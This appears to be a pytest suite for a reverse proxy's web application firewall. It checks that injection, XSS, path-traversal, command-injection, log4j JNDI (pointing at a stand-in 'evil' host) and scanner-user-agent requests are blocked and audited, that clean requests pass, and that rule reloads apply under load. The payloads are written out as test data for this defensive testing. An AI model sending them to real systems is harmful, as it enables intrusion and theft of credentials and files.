# SPDX-License-Identifier: BSD-3-Clause
"""The WAF: what is refused, what is not, and that its program changes under load."""
import json
import os

import pytest

from support import (HTTPS, URL, WAF_RULES, Counters, FakeOrigin, Load, Reader, Wrk, audit_of, curl, raw, run,
                     tgctl, wait_for)

INJECTION = "1' OR '1'='1"
ATTACKS = {
    "uri": ["-G", "--data-urlencode", f"id={INJECTION}"],
    "header": ["-H", f"X-Search: {INJECTION}"],
    "form body": ["--data-urlencode", f"id={INJECTION}"],
    "cookie": ["-b", f"session={INJECTION}"],
}
OTHERS = {
    "xss": ["-G", "--data-urlencode", "q=<script>alert(1)</script>"],
    "path traversal": ["-G", "--data-urlencode", "file=../../../etc/passwd"],
    "bad user agent": ["-A", "sqlmap/1.7"],
    "union select": ["-G", "--data-urlencode", "id=1 UNION SELECT name, password FROM users"],
    "command injection": ["-G", "--data-urlencode", "host=; cat /etc/passwd"],
    "log4j": ["-H", "X-Api: ${jndi:ldap://evil/a}"],
}
CLEAN = {
    "query": ["-G", "--data-urlencode", "q=it's a lovely day for O'Brien and sons"],
    "form": ["--data-urlencode", "comment=Select a colour, then order 1 or 2 of them from the list"],
    "json": ["-H", "Content-Type: application/json", "-d", '{"name": "Anna", "age": 30}'],
    "user agent": ["-A", "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0"],
}


def assert_refused(answer, where=None):
    assert answer.status == 403
    request_id = answer.fields["x-request-id"]
    assert request_id.encode() in answer.body
    lines = audit_of(request_id)
    assert len(lines) == 1, "one audit line"
    assert lines[0]["blocked"] and lines[0]["status"] == 403 and lines[0]["rule_id"] > 0
    if where:
        assert lines[0]["where"] == where


@pytest.mark.parametrize("name", ATTACKS)
@pytest.mark.parametrize("url", [URL, HTTPS], ids=["plain", "tls"])
def test_injection_is_refused(url, name):
    with Counters() as counters:
        answer = curl(url + "/echo", *ATTACKS[name])
        assert_refused(answer)
    assert counters["waf_blocked"] == 1


@pytest.mark.parametrize("name", OTHERS)
def test_other_attack_is_refused(name):
    assert_refused(curl(URL + "/echo", *OTHERS[name]))


@pytest.mark.parametrize("name", CLEAN)
def test_clean_request_passes(name):
    assert curl(URL + "/echo", *CLEAN[name]).status == 200


def test_origin_hears_nothing_of_a_refused_form():
    """The last piece of a body is held back until the verdict is final."""
    bodies = []

    def answer(sock):
        reader = Reader(sock)
        reader.until(b"\r\n\r\n")
        while reader.more():
            pass
        bodies.append(reader.bytes)

    form = b"a=" + b"x" * (1000 - 2 - len("&id=1'+OR+'1'='1")) + b"&id=1'+OR+'1'='1"
    with FakeOrigin("form", answer, waf=True) as origin:
        got = raw(b"POST /form HTTP/1.1\r\nHost: %s\r\nContent-Type: application/x-www-form-urlencoded\r\n"
                  b"Content-Length: 1000\r\n\r\n%s" % (origin.host.encode(), form))
        assert got.status == 403
        wait_for(lambda: bodies, 1)
    assert b"OR" not in b"".join(bodies)


def test_injection_split_over_segments_and_chunks():
    form = b"id=1'+OR+'1'='1"
    chunks = b"".join(b"1\r\n%c\r\n" % byte for byte in form) + b"0\r\n\r\n"
    answer = raw(b"POST /echo HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\n"
                 b"Transfer-Encoding: chunked\r\n\r\n" + chunks)
    assert answer.status == 403


def test_refused_head_is_inspected_and_logged():
    """A head that the parser refuses is never forwarded; an attack in it is an attack."""
    answer = raw(b"GET /?id=1'%20OR%20'1'='1 HTTP/1.1\r\nHost: x\r\nBad Name: 1\r\n\r\n")
    assert answer.status in (400, 403)


def test_site_without_waf_lets_pass():
    def answer(sock):
        Reader(sock).until(b"\r\n\r\n")
        sock.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")

    with FakeOrigin("plain", answer) as origin:
        assert origin.get("/?id=1'%20OR%20'1'='1").status == 200


def test_rules_change_what_is_refused(tmp_path):
    rules = [{"id": 7, "targets": ["uri"], "pattern": "forbidden-word", "message": "word", "action": "block"}]
    path = tmp_path / "rules.json"
    path.write_text(json.dumps(rules))
    try:
        tgctl("waf", "load", str(path))
        assert curl(URL + "/?q=forbidden-word").status == 403
        assert curl(URL + "/?id=1'%20OR%20'1'='1").status == 200
    finally:
        tgctl("waf", "load", WAF_RULES)
    assert curl(URL + "/?q=forbidden-word").status == 200
    assert curl(URL + "/?id=1'%20OR%20'1'='1").status == 403


def test_bad_pattern_is_named_and_changes_nothing(tmp_path):
    rules = [{"id": 1, "targets": ["uri"], "pattern": "fine", "message": "m", "action": "block"},
             {"id": 2, "targets": ["uri"], "pattern": "not(fine", "message": "m", "action": "block"}]
    path = tmp_path / "rules.json"
    path.write_text(json.dumps(rules))
    socket = os.environ["TIDEGATE_SOCKET"]
    done = run("curl", "-sS", "-i", "--unix-socket", socket, "-X", "PUT", "--data-binary", f"@{path}",
               "-H", "Content-Type: application/json", "http://localhost/v1/waf/rules")
    assert " 422 " in done.stdout.splitlines()[0]
    assert "application/problem+json" in done.stdout.lower()
    problem = json.loads(done.stdout.split("\n\n", 1)[-1])
    assert problem["index"] == 1, problem
    assert curl(URL + "/?id=1'%20OR%20'1'='1").status == 403


def test_program_changes_50_times_under_load(tmp_path, note):
    """Two programs take turns; what both refuse is refused all the time, what one refuses only in its turn."""
    with open(WAF_RULES) as file:
        rules = {rule["id"]: rule for rule in json.load(file)}
    both = [rules[number] for number in (1002, 1101, 1201, 1301, 1501)]
    more, fewer = tmp_path / "more.json", tmp_path / "fewer.json"
    more.write_text(json.dumps(both + [rules[1701]]))
    fewer.write_text(json.dumps(both))
    load, wrk = Load(), Wrk(URL + "/")
    try:
        with Counters() as counters:
            for n in range(50):
                tgctl("waf", "load", str(fewer if n % 2 else more))
                assert curl(URL + "/?q=1+UNION+SELECT+null").status == 403
                assert curl(URL + "/?q={{7*7}}").status == (200 if n % 2 else 403), "in force on every worker"
    finally:
        requests, errors = wrk.stop()
        done, failures = load.stop()
        tgctl("waf", "load", WAF_RULES)
    note(f"{requests + done} requests")
    assert not errors and not failures, f"{errors} {failures[:3]}"
    assert requests > 500 and done > 50
    assert counters["worker_tables_taken"] >= 100
